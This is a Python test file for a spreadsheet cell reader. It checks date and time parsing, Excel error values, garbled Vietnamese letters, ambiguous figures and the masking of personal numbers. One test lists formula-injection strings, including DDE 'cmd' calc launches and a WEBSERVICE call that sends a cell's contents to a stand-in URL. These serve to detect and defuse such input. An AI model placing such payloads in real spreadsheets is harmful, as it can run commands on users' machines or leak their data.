"""What a cell may say and must not be guessed: days with times, lost letters, two figures in one, commands, personal numbers."""

from __future__ import annotations

from datetime import date, timedelta, timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.warehouse.test_cells import some_column
from warehouse.cells import Reading, kind_of
from warehouse.cells.words import contains_personal, is_formula_like, mask_personal, shown_text

FEBRUARY = date(2024, 2, 1)


def _read(kind: str, cell: str) -> Reading:
    return kind_of(kind).read(cell, some_column(kind_of(kind)))


@pytest.mark.parametrize(
    "text",
    ["01/02/2024", "1.2.2024", "01/02/2024 00:00", "01-02-2024 00:00:00", "2024/02/01", "2024-2-1", "2024.02.01",
     "1 tháng 2 năm 2024", "Ngày 01 tháng 02 năm 2024", "ngày 1/2/24", "2024-02-01T00:00:00", "2024-02-01T00:00:00+07:00",
     "2024-01-31T17:00:00.000Z", "2024-01-31 17:00 UTC", "2024-02-01 12:00:00 AM", "2024-01-31T12:00:00-05:00"],
)  # fmt: skip
def test_a_day_that_cannot_be_read_otherwise_is_read(text: str) -> None:
    assert _read("date", f"s:{text}") == Reading(FEBRUARY, "value")
    assert kind_of("date").noted(f"s:{text}") is None


@pytest.mark.parametrize(
    ("cell", "noted"),
    [("s:01/02/2024 08:30", "V-TIME"), ("d:2024-02-01T08:30:00", "V-TIME"), ("n:45323.354", "V-TIME"),
     ("s:2024-01-31T23:59:30.000Z", "V-TIME"), ("n:45323", None), ("n:45322.999999", None), ("n:45323.000001", None)],
)  # fmt: skip
def test_a_time_that_leaves_no_doubt_of_the_day_is_a_warning(cell: str, noted: str | None) -> None:
    assert _read("date", cell) == Reading(FEBRUARY, "value")
    assert kind_of("date").noted(cell) == noted


@pytest.mark.parametrize(
    "cell",
    ["d:2024-01-31T17:00:00", "n:45322.708333", "n:45322.9995", "d:2024-01-31T16:59:30", "s:2024-01-31T23:59:30",
     "s:2024-01-31T16:59:30Z", "s:31/1/2024 11:59:30 PM", "s:31/1/2024 5:00 CH"],
)  # fmt: skip
def test_an_evening_may_be_the_day_after_and_is_asked_about(cell: str) -> None:
    assert _read("date", cell) == Reading(None, "not_reported", "V-DATE-TIME")


@pytest.mark.parametrize(
    "text", ["2024-02-01T", "1/2/2024 25:00", "1/2/2024 x", "2024/02-01", "2024-02-01T00:00+99:00", "0"]
)
def test_what_is_no_day_and_time_is_no_day(text: str) -> None:
    assert _read("date", f"s:{text}").issue == "V-DATE"


@given(day=st.dates(date(1950, 1, 2), date(2099, 12, 30)), hours=st.integers(-12, 14))
@settings(max_examples=200, deadline=None, derandomize=True)
def test_midnight_in_vietnam_is_its_day_in_whatever_zone_it_is_written(day: date, hours: int) -> None:
    from datetime import datetime

    here = datetime(day.year, day.month, day.day, tzinfo=timezone(timedelta(hours=7)))
    there = here.astimezone(timezone(timedelta(hours=hours)))
    assert _read("date", f"s:{there.isoformat()}") == Reading(day, "value")


@pytest.mark.parametrize("text", ["#REF!", "#N/A", "#SPILL!", "#NAME?", "Err:502", "#####", "#",
                                  "[object Object]", "undefined", "NaN", "null"])  # fmt: skip
@pytest.mark.parametrize("kind", ["text", "count", "date", "code", "percent", "citation", "decimal", "ratio"])
def test_what_a_program_writes_for_no_value_is_an_error_in_every_kind(kind: str, text: str) -> None:
    assert _read(kind, f"s:{text}").issue == "V-EXCEL-ERROR"


@pytest.mark.parametrize("text", ["Ti\ufffdt ki\ufffdm", "Ti?t ki?m ?i?n", "D?n v?n khéo", "??? ???", "T? t? qu?n"])
def test_lost_letters_are_no_name(text: str) -> None:
    assert _read("text", f"s:{text}").issue == "V-LOST-LETTERS"


@pytest.mark.parametrize("cell", ["d:2024-10-20", "t:08:30:00", "b:true"])
def test_a_day_or_a_truth_is_no_name(cell: str) -> None:
    assert _read("text", cell).issue == "V-TEXT"


@pytest.mark.parametrize(
    "text",
    [
        "Đã làm chưa?",
        "Có gì mới?Không",
        "Ai? Làm gì?",
        "Tổ #1",
        "#12",
        "Null Island là một đảo",
        "http://a.vn/x?id=3",
        "Năm 2024",
        "Tổ 3",
    ],
)
def test_honest_texts_stay(text: str) -> None:
    assert _read("text", f"s:{text}") == Reading(text, "value")


@pytest.mark.parametrize("text", ["12\n345", "3\n100", "12\r\n345", "30\v40", "12\u2028345", "một\nhai"])
@pytest.mark.parametrize("kind", ["count", "decimal", "percent"])
def test_two_lines_are_two_figures(kind: str, text: str) -> None:
    assert _read(kind, f"s:{text}").issue == "V-AMBIGUOUS"
    assert _read("count", "s:2.065\n") == Reading(2065, "value")


@pytest.mark.parametrize(
    ("kind", "cell", "value"),
    [("count", "n:40.000000000000007", 40), ("count", "n:2064.9999999999998", 2065), ("decimal", "n:92.500000000000014", 92.5),
     ("decimal", "s:8,125", 8.125), ("percent", "n:99.400000000000011", (99.4, 1)), ("percent", "s:99,375%", (99.375, 3))],
)  # fmt: skip
def test_figures_without_doubt(kind: str, cell: str, value: object) -> None:
    assert _read(kind, cell).value == value


@pytest.mark.parametrize(
    ("kind", "cell"),
    [("decimal", "s:8.125"), ("decimal", "s:92.500"), ("percent", "s:99.375"), ("percent", "n:1.5"), ("percent", "n:1"),
     ("percent", "n:2")],
)  # fmt: skip
def test_figures_in_doubt_are_asked_about(kind: str, cell: str) -> None:
    assert _read(kind, cell).issue == "V-AMBIGUOUS"


@pytest.mark.parametrize(
    "text",
    ["=1+1", " =1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '-1+WEBSERVICE("http://e/?"&A1)',
     '-A1+HYPERLINK("http://e","x")', "＝cmd|' /C calc'!A0", "＋cmd|x!A0", "+SUM(1)", "- sum(A1)", "\t=1", "-$A$1*IMPORTXML(1)"],
)  # fmt: skip
def test_what_a_spreadsheet_would_work_out(text: str) -> None:
    assert is_formula_like(text)
    assert _read("text", f"s:{text}").issue == "V-MARKUP"
    assert not is_formula_like(shown_text(text))


@pytest.mark.parametrize(
    "text",
    ["+ 3 lớp", "- Tuyên truyền (miệng)", "-Tổ dân phố", "+ nội dung", "- 12 buổi (2 ngày)", "-5", "a = b", "Dân vận khéo (số 3)",
     "- Tuyên truyền miệng(3 buổi)", "+84", "- Hội, đoàn thể | phối hợp"],
)  # fmt: skip
def test_lists_are_no_formulas(text: str) -> None:
    assert not is_formula_like(text)


@pytest.mark.parametrize(
    "text",
    ["gọi 0912345678", "+84 912 345 678", "CCCD 001 099 012 345", "0010-9901-2345", "tài khoản 19034567890123",
     "số ０９１２３４５６７８", "a (at) b.vn", "a[at]b.vn", "ten.nguoi@tinh.gov.vn", "CMND 012345678"],
)  # fmt: skip
def test_personal_numbers_are_seen_and_masked(text: str) -> None:
    assert contains_personal(text)
    assert "***" in mask_personal(text)
    assert not contains_personal(mask_personal(text))


@pytest.mark.parametrize(
    "text",
    [
        "0.9999999999",
        "0,123456789012",
        "120.456.789.123 đồng",
        "chi 1000000000 đồng",
        "32-CTr/TU",
        "30/8/2013",
        "1.115/1.122",
    ],
)
def test_figures_are_no_persons(text: str) -> None:
    assert not contains_personal(text)
    assert mask_personal(text) == text
